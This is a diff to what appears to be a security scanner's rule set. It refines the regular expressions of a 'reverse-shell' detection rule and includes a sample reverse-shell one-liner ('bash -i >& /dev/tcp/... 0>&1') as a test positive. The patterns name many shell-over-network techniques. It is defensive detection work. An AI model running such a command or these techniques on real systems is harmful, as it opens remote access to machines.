@@ -46,8 +46,8 @@ RULES = (
     ),
     Rule(
         "remote-code.reverse-shell", Severity.CRITICAL, "it opens a shell to another machine", "Remove it.", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "nc -z db.example.com 5432 && echo up\n",
-        terms=(r"\b(?:ba|z|k)?sh\s+-i\b[^\n]{0,40}/dev/(?:tcp|udp)/|exec\s+\d+<>\s*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[\w.$\{\}-]+/[\d$\{]+[^\n]{0,20}0>&1|\bncat?\b[^\n|]{0,80}\s-\w*[ec]\s+[\"']?(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh|\bncat?\b[^\n]{0,60}--(?:sh-)?exec|"
-               r"mkfifo\s[^\n]{0,120}\bncat?\b|\bsocat\b[^\n]{0,120}exec:|\bncat?\b\s+-\w*l\w*\s[^\n]{0,40}\|\s*(?:ba|z)?sh|telnet\s+\S+\s+\d+\s*\|\s*/bin/(?:ba)?sh|openssl\s+s_client[^\n]{0,80}\|\s*/bin/sh|fsockopen\([^\n]{0,120}(?:exec|proc_open|shell_exec|/bin/sh)|"
+        terms=(r"\b(?:ba|z|k)?sh\s+-i\b[^\n]{0,40}/dev/(?:tcp|udp)/|exec\s+\d+<>\s*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[\w.$\{\}-]+/[\d$\{]+[^\n]{0,20}0>&1|\bnc(?:at)?\b[^\n|]{0,80}\s-\w*[ec]\s+[\"']?(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh|\bnc(?:at)?\b[^\n]{0,60}--(?:sh-)?exec|"
+               r"mkfifo\s[^\n]{0,120}\bnc(?:at)?\b|\bsocat\b[^\n]{0,120}exec:|\bnc(?:at)?\b\s+-\w*l\w*\s[^\n]{0,40}\|\s*(?:ba|z)?sh|telnet\s+\S+\s+\d+\s*\|\s*/bin/(?:ba)?sh|openssl\s+s_client[^\n]{0,80}\|\s*/bin/sh|fsockopen\([^\n]{0,120}(?:exec|proc_open|shell_exec|/bin/sh)|"
                r"TCPSocket\.(?:open|new)\([^\n]{0,160}(?:exec|popen|/bin/sh)|use Socket;[^\n]*exec|Sockets\.TCPClient\(|net\.connect\([^\n]{0,120}(?:spawn|exec)\(|xterm\s+-display\s+\d|/inet/tcp/",),
         example_path=_SH,
     ),
